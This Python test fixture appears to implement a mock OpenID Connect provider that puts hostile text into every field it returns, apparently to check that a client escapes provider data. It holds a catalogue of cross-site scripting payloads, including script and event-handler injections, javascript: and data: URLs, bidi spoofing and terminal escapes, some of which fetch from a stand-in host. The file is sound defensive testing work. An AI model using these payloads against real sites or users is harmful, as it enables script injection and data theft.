"""An OpenID provider with hostile text in every text field."""

from __future__ import annotations

import json
import time
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs

from joserfc import jwt
from joserfc.jwk import RSAKey

from tests.harness.certificates import Certificates
from tests.oauth.servers import Seen, Server, reply

MARK = "MARK"
ELSEWHERE = "https://payload.invalid"
RUN = f"executed('{MARK}');fetch('{ELSEWHERE}/f');alert(1)"
"""What an executed payload would do; each of the three is detected."""
TEXTS = {
    "script": f"{MARK}<script>{RUN}</script><script src={ELSEWHERE}/s></script>",
    "image": f'{MARK}<img src=x onerror="{RUN}"><img src={ELSEWHERE}/i>',
    "end of elements": f"{MARK}</code></p></div></title></style></textarea><script>{RUN}</script>",
    "double quotes": f'{MARK}" autofocus onfocus="{RUN}" onmouseover="{RUN}" style="x',
    "single quotes": f"{MARK}' autofocus onfocus={RUN.replace(chr(39), '`')} style='x",
    "svg": f'{MARK}<svg onload="{RUN}"><animate onbegin={RUN}></svg><math href=javascript:{RUN}>',
    "frames": f'{MARK}<iframe srcdoc="<script>{RUN}</script>"></iframe><object data={ELSEWHERE}/o>',
    "links": f'{MARK}<a href="javascript:{RUN}">x</a><base href={ELSEWHERE}/>'
    f'<meta http-equiv=refresh content="0;url={ELSEWHERE}/"><link rel=stylesheet href={ELSEWHERE}>',
    "entities": f"{MARK}&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    "mathematics": rf"{MARK} $$\href{{javascript:{RUN}}}{{x}}$$ \(\style{{color:red}}{{y}}\) $z$",
    "markdown": f"{MARK} [x](javascript:{RUN}) ![x]({ELSEWHERE}/p) `${{{RUN}}}` {{{{{RUN}}}}}",
    "bidi": f"{MARK}\u202egnp.exe\u2066\u2067\u200f\u061c\u202d <b>x</b>\u200b\u00ad",
    "control": f"{MARK}\x1b[31m\x1b]8;;{ELSEWHERE}\x07x\x1b]8;;\x07\r\n\x00\x9b\u2028<i>y</i>",
    "10 kB": f"{MARK}<script>{RUN}</script>" + "W" * 10_000,
}
ADDRESSES = [
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    f"https://x.invalid/' onmouseover='{RUN}",
    f'https://x.invalid/" autofocus onfocus="{RUN}',
    f"java\tscript:{RUN}",
    f"vbscript:{RUN}",
    "https://x.invalid/\u202egnp.exe",
    f"//{ELSEWHERE.partition('//')[2]}/",
    f"blob:https://x.invalid/<script>{RUN}</script>",
    "https://x.invalid/" + "w" * 10_000,
]


@dataclass
class HostileProvider:
    """All its responses contain ``text``; ``turn`` selects the result of a poll.

    ``turn``: "pending", "refuse" or "grant". ``address`` replaces its addresses.
    """

    certificates: Certificates
    text: str = MARK
    address: str = ""
    turn: str = "pending"
    _key: RSAKey = field(default_factory=lambda: RSAKey.generate_key(2048), repr=False)

    def __enter__(self) -> HostileProvider:
        self._server = Server(self.certificates, answer=self._answer)
        self._server.__enter__()
        self.issuer = f"https://127.0.0.1:{self._server.port}"
        return self

    def __exit__(self, *_: object) -> None:
        self._server.__exit__()

    def _answer(self, seen: Seen) -> bytes:
        path = seen.target.partition("?")[0]
        if path == "/.well-known/openid-configuration":
            return self._json(200, self._metadata())
        if path == "/keys":
            return self._json(200, {"keys": [self._key.as_dict(private=False, use="sig")]})
        if path == "/device_authorization":
            return self._json(200, self._device())
        if path == "/token":
            return self._token(parse_qs(seen.body.decode()))
        return self._json(404, {"error": self.text})

    def _metadata(self) -> dict[str, Any]:
        return {
            "issuer": self.issuer,
            "authorization_endpoint": f"{self.issuer}/authorize",
            "token_endpoint": f"{self.issuer}/token",
            "device_authorization_endpoint": f"{self.issuer}/device_authorization",
            "jwks_uri": f"{self.issuer}/keys",
            "response_types_supported": ["code"],
            "id_token_signing_alg_values_supported": ["RS256"],
        }

    def _device(self) -> dict[str, Any]:
        page = self.address or f"{self.issuer}/device"
        return {
            "device_code": self.text,
            "user_code": self.text,
            "verification_uri": page,
            "verification_uri_complete": f"{page}?c={self.text}" if self.address else self.text,
            "message": self.text,
            "expires_in": 600,
            "interval": 1,
        }

    def _token(self, asked: dict[str, list[str]]) -> bytes:
        if self.turn == "grant":
            return self._json(200, self._tokens())
        device = "device_code" in asked.get("grant_type", [""])[0]
        if self.turn == "pending" and device:
            return self._json(400, {"error": "authorization_pending"})
        told = dict.fromkeys(("error", "error_uri", "correlation_id", "trace_id"), self.text)
        return self._json(400, {**told, "error_description": f"{self.text} {self.text}"})

    def _tokens(self) -> dict[str, Any]:
        now = int(time.time())
        names = ("sub", "name", "preferred_username", "email", "tid", "oid")
        claims = {**dict.fromkeys(names, self.text), "iss": self.issuer, "aud": "notebooks"}
        claims |= {"iat": now, "exp": now + 3600}
        return {
            "access_token": "an-access-token",
            "refresh_token": "a-refresh-token",
            "token_type": "Bearer",
            "expires_in": 3600,
            "scope": f"openid {self.text}",
            "id_token": jwt.encode({"alg": "RS256"}, claims, self._key),
        }

    def _json(self, status: int, body: dict[str, Any]) -> bytes:
        return reply(status, json.dumps(body), content_type="application/json")
